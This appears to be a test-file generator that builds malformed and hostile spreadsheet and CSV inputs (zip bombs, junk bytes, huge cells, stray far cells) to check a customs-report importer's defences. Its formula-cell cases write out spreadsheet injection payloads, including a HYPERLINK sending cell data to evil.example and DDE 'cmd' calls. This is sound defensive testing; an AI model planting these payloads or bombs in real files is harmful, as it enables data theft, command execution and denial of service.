"""Generator of hostile ES-003 files (issue 9, Bad input). Deterministic; no file is committed.

    python tests/hostile/generate.py OUTDIR        # writes every case into OUTDIR and lists them

Each case is a function ``(directory) -> Path`` registered in ``CASES`` with what must happen to it:
``"error"`` (a clear message, nothing stored) or ``"load"`` (the file is actually fine: it loads, and
gives the same entries as the plain reference file).
"""

from __future__ import annotations

import io
import os
import random
import re
import struct
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

from entries.samplegen import EXTENDED_COLUMNS, Formula, Text, es003_rows, write_csv, write_xlsx  # noqa: E402

REFERENCE_LINES = 60


@dataclass(frozen=True)
class Case:
    name: str
    make: Callable[[Path], Path]
    expect: str  # "error" | "load" | "empty" (loads, and holds no rows)
    # Words the error message must contain (case-insensitive), any one of each tuple.
    message: tuple[tuple[str, ...], ...] = ()


def _rows(n: int = REFERENCE_LINES) -> list[list[object]]:
    return list(es003_rows(n, seed=99, first_serial=4400000))


def reference_csv(d: Path) -> Path:
    return write_csv(d / "reference.csv", _rows())


def reference_xlsx(d: Path) -> Path:
    return write_xlsx(d / "reference.xlsx", _rows())


def _plain_csv_text(delimiter: str = ",", newline: str = "\r\n") -> str:
    """The reference report as plain CSV text (no ACE guards), for re-encoding."""
    import csv

    out = io.StringIO()
    w = csv.writer(out, delimiter=delimiter, lineterminator=newline)
    w.writerow(EXTENDED_COLUMNS)
    for row in _rows():
        cells = []
        for v in row:
            if v is None:
                cells.append("")
            elif hasattr(v, "strftime"):
                cells.append(v.strftime("%m/%d/%Y"))
            else:
                cells.append(str(v))
        w.writerow(cells)
    return out.getvalue()


# ------------------------------------------------------------------ broken containers
def truncated_xlsx(d: Path) -> Path:
    data = reference_xlsx(d).read_bytes()
    path = d / "truncated.xlsx"
    path.write_bytes(data[: len(data) // 2])
    return path


def zip_bomb_xlsx(d: Path) -> Path:
    """A workbook whose sheet inflates from ~0.2 MB to 200 MB of whitespace (1000 to 1)."""
    path = d / "zip_bomb.xlsx"
    with (
        zipfile.ZipFile(reference_xlsx(d)) as src,
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as dst,
    ):
        for info in src.infolist():
            data = src.read(info)
            if info.filename.endswith("sheet1.xml"):
                with dst.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
                    fh.write(data.replace(b"<sheetData>", b"<sheetData>", 1))
                    chunk = b" " * (1 << 20)
                    for _ in range(200):
                        fh.write(chunk)
            else:
                dst.writestr(info, data)
    return path


def claims_huge_xlsx(d: Path) -> Path:
    """A small, valid-looking workbook whose zip directory claims the sheet is 50 GB when expanded."""
    data = bytearray(reference_xlsx(d).read_bytes())
    huge = 50 * 1024**3
    # Central directory entries: signature PK\x01\x02; uncompressed size at offset 24 (4 bytes). Sizes over
    # 4 GB need zip64, so claim 0xFFFFFFFE (4 GB - 2) for every part: together far over any limit.
    i = data.find(b"PK\x01\x02")
    while i != -1:
        struct.pack_into("<I", data, i + 24, min(huge, 0xFFFFFFFE))
        i = data.find(b"PK\x01\x02", i + 4)
    path = d / "claims_huge.xlsx"
    path.write_bytes(bytes(data))
    return path


def binary_junk_csv(d: Path) -> Path:
    path = d / "junk.csv"
    path.write_bytes(random.Random(1).randbytes(256 * 1024))
    return path


def binary_junk_xlsx(d: Path) -> Path:
    path = d / "junk.xlsx"
    path.write_bytes(b"PK\x03\x04" + random.Random(2).randbytes(64 * 1024))
    return path


def junk_text_csv(d: Path) -> Path:
    """Printable junk with no NUL byte: passes the type check, must fail on the header."""
    rng = random.Random(3)
    lines = ["".join(rng.choice("abcdefghij,;\"'=+-@ \t") for _ in range(rng.randint(0, 200))) for _ in range(5000)]
    path = d / "junk_text.csv"
    path.write_text("\n".join(lines), encoding="utf-8")
    return path


def wrong_sheet_xlsx(d: Path) -> Path:
    """The first sheet is not the report and no sheet is named Main Report."""
    path = d / "wrong_sheet.xlsx"
    write_xlsx(
        path, [["Prepared for", "Blue Heron"], ["Period", "2025"]], header=["Notes", "Value"], sheet_name="Summary"
    )
    return path


# ------------------------------------------------------------------ encodings and separators
def utf16_csv(d: Path) -> Path:
    """Excel's "Unicode Text"/UTF-16 CSV (with its BOM)."""
    path = d / "utf16.csv"
    path.write_bytes(_plain_csv_text().encode("utf-16"))
    return path


def bom_csv(d: Path) -> Path:
    path = d / "bom.csv"
    path.write_bytes(_plain_csv_text().encode("utf-8-sig"))
    return path


def semicolon_csv(d: Path) -> Path:
    """Excel with a European list separator writes ';' between cells."""
    path = d / "semicolon.csv"
    path.write_text(_plain_csv_text(delimiter=";"), encoding="utf-8")
    return path


def decimal_comma_csv(d: Path) -> Path:
    """Excel in a European locale: ';' between cells and decimal commas (1.234,56): must load with the same amounts."""
    import csv
    from decimal import Decimal

    out = io.StringIO()
    w = csv.writer(out, delimiter=";", lineterminator="\r\n")
    w.writerow(EXTENDED_COLUMNS)
    for row in _rows():
        cells = []
        for v in row:
            if v is None:
                cells.append("")
            elif isinstance(v, Decimal):
                cells.append(f"{v:,.2f}".replace(",", " ").replace(".", ",").replace(" ", "."))
            elif hasattr(v, "strftime"):
                cells.append(v.strftime("%m/%d/%Y"))
            else:
                cells.append(str(v))
        w.writerow(cells)
    path = d / "decimal_comma.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    return path


def line_level_csv(d: Path) -> Path:
    """A line-level report: "Line Duty Amount" per entry summary line, no Tariff Ordinal Number, no Chapter 99
    rows (the IEEPA duty is inside the line total). Must be refused, never read as "no IEEPA duty"."""
    keep = [c for c in EXTENDED_COLUMNS if c != "Tariff Ordinal Number"]
    header = ["Line Duty Amount" if c == "Line Tariff Duty Amount" else c for c in keep]
    idx = [EXTENDED_COLUMNS.index(c) for c in keep]
    hts = EXTENDED_COLUMNS.index("HTS Number - Full")
    rows = [[r[i] for i in idx] for r in _rows() if not str(r[hts]).startswith("99")]
    return write_csv(d / "line_level.csv", rows, header=header)


def crlf_csv(d: Path) -> Path:
    path = d / "crlf.csv"
    path.write_bytes(_plain_csv_text(newline="\r\n").encode())
    return path


def lf_csv(d: Path) -> Path:
    path = d / "lf.csv"
    path.write_bytes(_plain_csv_text(newline="\n").encode())
    return path


# ------------------------------------------------------------------ hostile cells
def formula_cells_xlsx(d: Path) -> Path:
    """Formulas in the cells a spreadsheet attack would use (names, codes), cached values present."""
    rows = _rows()
    name_col = EXTENDED_COLUMNS.index("Importer Name")
    filer_col = EXTENDED_COLUMNS.index("Filer Name")
    for i, row in enumerate(rows):
        if i % 3 == 0:
            row[name_col] = Formula(
                'HYPERLINK("http://evil.example/?"&A1,"Blue Heron")', cached="Blue Heron Housewares Inc"
            )
            row[filer_col] = Formula("cmd|' /C calc'!A0", cached="Harbor Customs Brokerage")
    return write_xlsx(d / "formulas.xlsx", rows)


def formula_cells_csv(d: Path) -> Path:
    rows = _rows()
    name_col = EXTENDED_COLUMNS.index("Importer Name")
    filer_col = EXTENDED_COLUMNS.index("Filer Name")
    for i, row in enumerate(rows):
        if i % 3 == 0:
            row[name_col] = '=HYPERLINK("http://evil.example/","Blue Heron")'
            row[filer_col] = "@SUM(1+1)*cmd|' /C calc'!A0"
    return write_csv(d / "formulas.csv", rows)


def enormous_cell_csv(d: Path) -> Path:
    """One 20 MB cell (no line break in it) in the middle of a good report."""
    rows = _rows()
    rows[10][EXTENDED_COLUMNS.index("Importer Name")] = "A" * (20 * 1024 * 1024)
    return write_csv(d / "enormous_cell.csv", rows)


def enormous_cell_xlsx(d: Path) -> Path:
    rows = _rows()
    rows[10][EXTENDED_COLUMNS.index("Importer Name")] = "A" * (5 * 1024 * 1024)
    return write_xlsx(d / "enormous_cell.xlsx", rows)


def ten_thousand_columns_csv(d: Path) -> Path:
    extra = [f"Extra {i}" for i in range(10_000 - len(EXTENDED_COLUMNS))]
    rows = [list(r) + ["x"] * len(extra) for r in _rows()]
    return write_csv(d / "wide.csv", rows, header=EXTENDED_COLUMNS + extra)


def ten_thousand_columns_xlsx(d: Path) -> Path:
    extra = [f"Extra {i}" for i in range(10_000 - len(EXTENDED_COLUMNS))]
    rows = [list(r) + [1] * len(extra) for r in _rows(20)]
    return write_xlsx(d / "wide.xlsx", rows, header=EXTENDED_COLUMNS + extra)


def million_empty_rows_csv(d: Path) -> Path:
    """The report, then a million rows of empty cells (a sheet that was 'cleared', not deleted)."""
    path = write_csv(d / "million_empty.csv", _rows())
    empty = ("," * (len(EXTENDED_COLUMNS) - 1) + "\r\n").encode()
    with path.open("ab") as fh:
        block = empty * 10_000
        for _ in range(100):
            fh.write(block)
    return path


def million_empty_rows_xlsx(d: Path) -> Path:
    """A workbook whose sheet has a million empty (but present) rows after the report."""
    path = d / "million_empty.xlsx"
    base = reference_xlsx(d)
    with zipfile.ZipFile(base) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename.endswith("sheet1.xml"):
                head, tail = data.split(b"</sheetData>", 1)
                with dst.open(info.filename, "w", force_zip64=True) as fh:
                    fh.write(head)
                    start = REFERENCE_LINES + 2
                    for r in range(start, start + 1_000_000, 1000):
                        fh.write(b"".join(b'<row r="%d"/>' % n for n in range(r, r + 1000)))
                    fh.write(b"</sheetData>" + tail)
            else:
                dst.writestr(info, data)
    return path


def _with_stray_cells(d: Path, name: str, refs: tuple[str, ...]) -> Path:
    """The reference workbook plus a few text cells at ``refs`` (rows appended after the report's, as a
    user's stray keystroke far down or to the right is stored). A 6.5 KB file with one cell at XFD1048576
    made the reader allocate the whole range, 17 billion cells (issue 17, item 3)."""
    path = d / name
    cells = []
    for ref in refs:
        row = int(re.sub(r"[A-Z]", "", ref))
        cells.append(f'<row r="{row}"><c r="{ref}" t="inlineStr"><is><t>stray</t></is></c></row>'.encode())
    with zipfile.ZipFile(reference_xlsx(d)) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename.endswith("sheet1.xml"):
                data = data.replace(b"</sheetData>", b"".join(cells) + b"</sheetData>", 1)
            dst.writestr(info.filename, data)
    return path


def far_corner_xlsx(d: Path) -> Path:
    return _with_stray_cells(d, "far_corner.xlsx", ("XFD1048576",))


def far_row_xlsx(d: Path) -> Path:
    return _with_stray_cells(d, "far_row.xlsx", ("A1048576",))


def far_row_and_column_xlsx(d: Path) -> Path:
    return _with_stray_cells(d, "far_row_and_column.xlsx", ("XFD4000",))


def far_column_xlsx(d: Path) -> Path:
    """A stray cell at the last column of a data row: the range is 61 x 16,384 cells, small enough to load."""
    return _with_stray_cells(d, "far_column.xlsx", ("XFD2",))


def sparse_far_apart_xlsx(d: Path) -> Path:
    return _with_stray_cells(d, "sparse_far_apart.xlsx", ("ZZ5000", "AAA90000", "B400000", "XFD700000"))


def only_header_csv(d: Path) -> Path:
    return write_csv(d / "only_header.csv", [])


def empty_file_csv(d: Path) -> Path:
    path = d / "empty.csv"
    path.write_bytes(b"")
    return path


def xls_named_csv(d: Path) -> Path:
    path = d / "old_excel.csv"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 4096)
    return path


def guarded_identifiers_csv(d: Path) -> Path:
    """ACE's own ="..." guards everywhere (the normal case): a control that must load."""
    rows = [[Text(str(v)) if isinstance(v, str) else v for v in r] for r in _rows()]
    return write_csv(d / "guarded.csv", rows)


CASES: list[Case] = [
    Case("truncated_xlsx", truncated_xlsx, "error", (("xlsx", "workbook", "zip"),)),
    Case("zip_bomb_xlsx", zip_bomb_xlsx, "error", (("zip bomb", "expand", "compressed"),)),
    Case("claims_huge_xlsx", claims_huge_xlsx, "error", (("expand", "limit", "zip bomb", "cannot be"),)),
    Case("binary_junk_csv", binary_junk_csv, "error", (("not a text", "neither", "csv"),)),
    Case("binary_junk_xlsx", binary_junk_xlsx, "error", (("xlsx", "workbook", "zip"),)),
    Case("junk_text_csv", junk_text_csv, "error", (("column",),)),
    Case("wrong_sheet_xlsx", wrong_sheet_xlsx, "error", (("column",), ("summary", "sheet", "headers found"))),
    Case("utf16_csv", utf16_csv, "load"),
    Case("bom_csv", bom_csv, "load"),
    Case("semicolon_csv", semicolon_csv, "load"),
    Case("decimal_comma_csv", decimal_comma_csv, "load"),
    Case("line_level_csv", line_level_csv, "error", (("line-level report",), ("tariff ordinal number",))),
    Case("crlf_csv", crlf_csv, "load"),
    Case("lf_csv", lf_csv, "load"),
    Case("formula_cells_xlsx", formula_cells_xlsx, "load"),
    Case("formula_cells_csv", formula_cells_csv, "load"),
    Case("enormous_cell_csv", enormous_cell_csv, "error", (("row",), ("large", "long", "size", "limit"))),
    Case("enormous_cell_xlsx", enormous_cell_xlsx, "load"),
    Case("ten_thousand_columns_csv", ten_thousand_columns_csv, "load"),
    Case("ten_thousand_columns_xlsx", ten_thousand_columns_xlsx, "load"),
    Case("million_empty_rows_csv", million_empty_rows_csv, "load"),
    Case("million_empty_rows_xlsx", million_empty_rows_xlsx, "load"),
    Case("far_corner_xlsx", far_corner_xlsx, "error", (("a1:xfd1048576",), ("stray",), ("memory",))),
    Case("far_row_xlsx", far_row_xlsx, "error", (("a1:z1048576",), ("stray",), ("memory",))),
    Case("far_row_and_column_xlsx", far_row_and_column_xlsx, "error", (("a1:xfd4000",), ("stray",), ("memory",))),
    Case("far_column_xlsx", far_column_xlsx, "load"),
    Case("sparse_far_apart_xlsx", sparse_far_apart_xlsx, "error", (("a1:xfd700000",), ("stray",), ("memory",))),
    Case("only_header_csv", only_header_csv, "empty"),
    Case("empty_file_csv", empty_file_csv, "error", (("empty",),)),
    Case("xls_named_csv", xls_named_csv, "error", ((".xls", "old binary excel"),)),
    Case("guarded_identifiers_csv", guarded_identifiers_csv, "load"),
]
CASES_BY_NAME = {c.name: c for c in CASES}


def generate_all(directory: Path) -> dict[str, Path]:
    directory.mkdir(parents=True, exist_ok=True)
    out = {}
    for case in CASES:
        sub = directory / case.name
        sub.mkdir(exist_ok=True)
        out[case.name] = case.make(sub)
    return out


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-files")
    for name, path in generate_all(target).items():
        print(f"{name:28} {os.path.getsize(path):>14,} bytes  {path}")
